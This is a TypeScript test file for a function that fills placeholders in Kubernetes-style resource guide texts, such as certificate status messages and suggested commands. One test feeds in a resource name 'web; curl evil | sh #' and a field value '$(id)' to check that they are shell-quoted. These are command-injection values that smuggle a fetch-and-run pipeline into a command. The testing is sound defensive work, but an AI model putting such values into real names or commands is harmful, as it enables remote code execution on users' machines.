import { shellQuote } from '../connect/shellQuote';
import { FieldValue, ResourceTexts } from '../model';
import { fillResourceTexts, resourceTextValues } from './resourceTexts';

const metadata = {
  name: 'web-tls',
  namespace: 'shop',
  uid: '',
  labels: {},
  annotations: {},
  finalizers: [],
  ownerReferences: [],
};

const fill = (
  texts: ResourceTexts | undefined,
  fields: Readonly<Record<string, FieldValue>> = {},
) => fillResourceTexts({ metadata, fields, guide: { texts } });

describe('fillResourceTexts', () => {
  it('fills in fields and the name', () => {
    expect(
      fill(
        {
          title: 'Certificate {{metadata.name}} is not issued',
          meaning: 'It asked {{ spec.issuerRef.name }} for {{spec.dnsNames}}.',
          steps: ['Look at {{metadata.namespace}}.'],
        },
        { 'spec.issuerRef.name': 'ca', 'spec.dnsNames': ['a.b', 'c.d'] },
      ),
    ).toEqual({
      title: 'Certificate web-tls is not issued',
      meaning: 'It asked ca for a.b, c.d.',
      steps: ['Look at shop.'],
    });
  });

  it.each([
    "{{ metadata.labels['example.com/team'] }}",
    "{{  metadata.labels['example.com/team']\t}}",
  ])('fills in what the backend takes for a placeholder: %s', title => {
    const fields = { "metadata.labels['example.com/team']": 'shop' };
    expect(fill({ title }, fields)).toEqual({ title: 'shop' });
    expect(fill({ title })).toBeUndefined();
  });

  it('leaves out a text whose value is absent, and keeps the others', () => {
    expect(
      fill(
        {
          title: 'Not issued',
          meaning: 'By {{spec.issuerRef}}.',
          steps: ['{{constructor}}', 'Wait.'],
        },
        { 'spec.issuerRef': { name: 'ca' } },
      ),
    ).toEqual({ title: 'Not issued', steps: ['Wait.'] });
  });

  it('quotes what is part of a command, which a cluster could have made one of its own', () => {
    const name = 'web; curl evil | sh #';
    const { steps } =
      fillResourceTexts({
        metadata: { ...metadata, name },
        fields: { 'spec.host': '$(id)', 'spec.note': 'a b' },
        guide: {
          texts: {
            steps: [
              'Run `app get {{metadata.name}} -n {{metadata.namespace}} --host={{ spec.host }}`.',
              'It says {{spec.note}}.',
            ],
          },
        },
      }) ?? {};
    expect(steps).toEqual([
      `Run \`app get ${shellQuote(name)} -n shop --host=${shellQuote(
        '$(id)',
      )}\`.`,
      'It says a b.',
    ]);
    expect(shellQuote(name)).not.toBe(name);
  });

  it('does not fill in what a value says', () => {
    expect(
      fill({ meaning: '{{status.a}}' }, { 'status.a': '{{metadata.name}}' }),
    ).toEqual({ meaning: '{{metadata.name}}' });
  });

  it('has nothing without texts', () => {
    expect(fill(undefined)).toBeUndefined();
    expect(fill({ title: '{{status.gone}}' })).toBeUndefined();
  });
});

describe('resourceTextValues', () => {
  it('has what the placeholders stand for, for a translation, and no other field', () => {
    const texts = {
      title: '{{spec.dnsNames}} of {{ metadata.name }}',
      meaning: 'From {{spec.issuerRef.name}} until {{status.notAfter}}.',
      steps: ['Look at {{metadata.namespace}}.'],
    };
    const fields = {
      'spec.dnsNames': ['a.b', 'c.d'],
      'spec.issuerRef.name': 'x'.repeat(5_000),
      'spec.secretName': 'tls',
      'status.notAfter': null,
    };
    expect(resourceTextValues({ metadata, fields, guide: { texts } })).toEqual({
      'metadata.name': 'web-tls',
      'metadata.namespace': 'shop',
      'spec.dnsNames': 'a.b, c.d',
      'spec.issuerRef.name': 'x'.repeat(1_000),
    });
    expect(resourceTextValues({ metadata, fields, guide: {} })).toEqual({});
  });
});
